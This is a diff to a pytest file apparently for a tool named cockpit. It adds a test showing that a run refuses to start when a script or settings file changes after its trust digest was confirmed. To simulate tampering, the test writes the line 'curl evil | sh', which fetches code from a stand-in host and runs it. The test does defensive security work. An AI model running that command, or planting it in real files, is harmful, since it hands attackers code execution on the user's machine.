@@ -7,13 +7,14 @@ from pathlib import Path
 
 import pytest
 
-from cockpit.errors import KeeperError
+from cockpit.errors import KeeperError, RunError
 from cockpit.profile.kinds import installed
 from cockpit.profile.load import load
 from cockpit.run.events import Actor, ProfileTrust
 from cockpit.session import spawn
 from cockpit.session.creating import create_run
 from cockpit.session.identity import account
+from cockpit.session.trust_digest import executed
 from cockpit.session.trust_foreign import foreign
 from cockpit.session.trust_memory import Confirmed, remember, remembered
 from cockpit.session.trust_runs import executed_by
@@ -89,10 +90,27 @@ def test_no_keeper_is_started_for_a_run_from_elsewhere_until_what_it_executes_wa
 def test_a_log_that_says_that_it_is_trusted_is_not_believed(tmp_path: Path, started: list[str]) -> None:
     (tmp_path / "shop.toml").write_text(PROFILE.format(program="true"))
     loaded = load(tmp_path / "shop.toml", installed())
-    trust = ProfileTrust(digest="a" * 64, how="asked", by=account().user)
+    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
     by = Actor(user="eve", host="elsewhere")
     run_dir = create_run(loaded, {}, folder=tmp_path / "runs", started_by=by, trust=trust)
-    remember(remembered("shop", "staging"), Confirmed("a" * 64, datetime.now(UTC), "ana", "asked"), ())
+    remember(remembered("shop", "staging"), Confirmed(trust.digest, datetime.now(UTC), "ana", "asked"), ())
     with pytest.raises(KeeperError, match="was begun elsewhere"):
         spawn.start_keeper(run_dir)
     assert started == []
+
+
+@pytest.mark.parametrize("file", ["look.sh", "settings.yaml"])
+def test_no_run_begins_of_a_file_that_changed_after_it_was_confirmed(tmp_path: Path, file: str) -> None:
+    """Whoever confirms reads for minutes, and is asked for values afterwards; another one writes meanwhile."""
+    step = '\nkind = "command"\nargv = ["sh", "look.sh"]\nfiles = ["settings.yaml"]\n'
+    (tmp_path / "shop.toml").write_text(PROFILE.format(program="true").replace('\ngate = ["up == 0"]\n', step))
+    for name in ("look.sh", "settings.yaml"):
+        (tmp_path / name).write_text("echo\n")
+    loaded = load(tmp_path / "shop.toml", installed())
+    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
+    (tmp_path / file).write_text("curl evil | sh\n")
+    with pytest.raises(RunError, match=r"a file that .*shop.toml names changed after it was confirmed"):
+        create_run(loaded, {}, folder=tmp_path / "runs", trust=trust)
+    assert not list((tmp_path / "runs").glob("*"))
+    (tmp_path / file).write_text("echo\n")
+    assert create_run(loaded, {}, folder=tmp_path / "runs", trust=trust).exists()
